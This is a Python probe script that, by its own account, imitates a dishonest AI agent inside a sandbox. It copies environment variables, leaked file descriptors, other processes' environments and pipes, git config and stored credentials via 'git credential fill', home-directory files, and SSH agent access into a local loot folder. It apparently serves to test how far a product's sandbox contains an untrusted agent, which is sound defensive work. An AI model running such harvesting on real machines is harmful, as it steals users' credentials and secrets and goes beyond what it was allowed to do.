"""What a dishonest agent would do: take everything that it can reach. Standard library only.

    python canary_probe.py LOOT DATA SERVER NAMESPACE [FILE…]

LOOT is a folder that it may write, DATA the product's data directory, SERVER a file
with the id of its process, NAMESPACE the machine's own of processes; the files are worth a look.
All that was readable is kept in LOOT, as it was.

It never looks at processes that are not the product's: outside of a sandbox it may be anybody,
also one who could read everything on the machine.
"""

from __future__ import annotations

import contextlib
import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

MOST_BYTES = 4_000_000


def main() -> None:
    loot, data = Path(sys.argv[1]), Path(sys.argv[2])
    server, machine = int(Path(sys.argv[3]).read_text()), sys.argv[4]
    others = map(Path, sys.argv[5:])
    folder = loot / f"of-{os.getuid()}-{os.getpid()}"
    folder.mkdir()
    for name, parts in (
        ("environment", environment()),
        ("descriptors", descriptors()),
        ("processes", processes(server, machine)),
        ("git", git(data)),
        ("files", files([data, Path.cwd(), Path.home(), *others])),
        ("sockets", sockets()),
    ):
        with (folder / name).open("wb") as file:
            for part in parts:
                file.write(part + b"\n")
    (folder / "done").write_text("done")


def environment() -> Iterator[bytes]:
    for name, value in os.environb.items():
        yield name + b"=" + value


def descriptors() -> Iterator[bytes]:
    """What was left open for us by mistake."""
    for fd in range(3, 256):
        with contextlib.suppress(OSError):
            yield f"{fd}: {os.readlink(f'/proc/self/fd/{fd}')}".encode()
            os.set_blocking(fd, False)
            yield os.read(fd, 65_536)


def processes(server: int, machine: str) -> Iterator[bytes]:
    for process in to_look_at(server, machine):
        for name in ("cmdline", "environ"):
            with contextlib.suppress(OSError):
                yield f"{process}/{name}: ".encode() + (process / name).read_bytes()
        with contextlib.suppress(OSError):
            for one in (process / "fd").iterdir():
                yield from descriptor(one)


def to_look_at(server: int, machine: str) -> list[Path]:
    """Whatever is in our own namespace; in that of the machine, the product's and ourselves."""
    every = [path for path in Path("/proc").iterdir() if path.name.isdigit()]
    if os.readlink("/proc/self/ns/pid") != machine:
        return every
    parents = {}
    for path in every:
        with contextlib.suppress(OSError):
            parents[int(path.name)] = int((path / "stat").read_text().rpartition(")")[2].split()[1])
    ours = {server}
    while more := {pid for pid, parent in parents.items() if parent in ours} - ours:
        ours |= more
    return [Path(f"/proc/{pid}") for pid in sorted(ours | {os.getpid()})]


def descriptor(link: Path) -> Iterator[bytes]:
    """Pipes of others: a login that waits for git would be in one."""
    with contextlib.suppress(OSError):
        target = os.readlink(link)
        yield f"{link}: {target}".encode()
        if target.startswith("pipe:") and link.parts[2] != str(os.getpid()):
            fd = os.open(link, os.O_RDONLY | os.O_NONBLOCK)
            try:
                yield os.read(fd, 65_536)
            finally:
                os.close(fd)


def git(data: Path) -> Iterator[bytes]:
    places = [Path.cwd(), *found(data, "config")]
    for place in places:
        where = place if place.is_dir() else place.parent
        for words in (["config", "--list", "--show-origin"], ["remote", "-v"], ["reflog", "--all"]):
            said = subprocess.run(
                ["git", "-c", "safe.directory=*", "-C", str(where), *words],
                capture_output=True,
                check=False,
                timeout=30,
            )
            yield f"{where} {words}: ".encode() + said.stdout + said.stderr
    asked = b"protocol=http\nhost=127.0.0.1\n\n"
    said = subprocess.run(
        ["git", "credential", "fill"],
        input=asked,
        capture_output=True,
        check=False,
        timeout=30,
        env={**os.environ, "GIT_TERMINAL_PROMPT": "0", "GIT_ASKPASS": "/bin/false"},
    )
    yield b"git credential fill: " + said.stdout + said.stderr


def found(top: Path, name: str) -> Iterator[Path]:
    for folder, _, names in os.walk(top):
        if name in names:
            yield Path(folder) / name


def files(tops: list[Path]) -> Iterator[bytes]:
    for top in tops:
        inside = [top] if top.is_file() else sorted(everything(top))
        for path in inside:
            with contextlib.suppress(OSError):
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
                with os.fdopen(fd, "rb") as file:
                    yield f"{path}: ".encode() + file.read(MOST_BYTES)


def everything(top: Path) -> Iterator[Path]:
    for folder, _, names in os.walk(top):
        for name in names:
            yield Path(folder) / name


def sockets() -> Iterator[bytes]:
    with contextlib.suppress(OSError):
        yield Path("/proc/net/unix").read_bytes()
    for name in ("SSH_AUTH_SOCK", "GIT_ASKPASS", "DBUS_SESSION_BUS_ADDRESS"):
        yield f"{name}={os.environ.get(name, '')}".encode()
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as one:
        one.settimeout(1)
        one.connect(os.environ.get("SSH_AUTH_SOCK", "/nonexistent"))
        yield b"an agent of ssh answers"


if __name__ == "__main__":
    main()
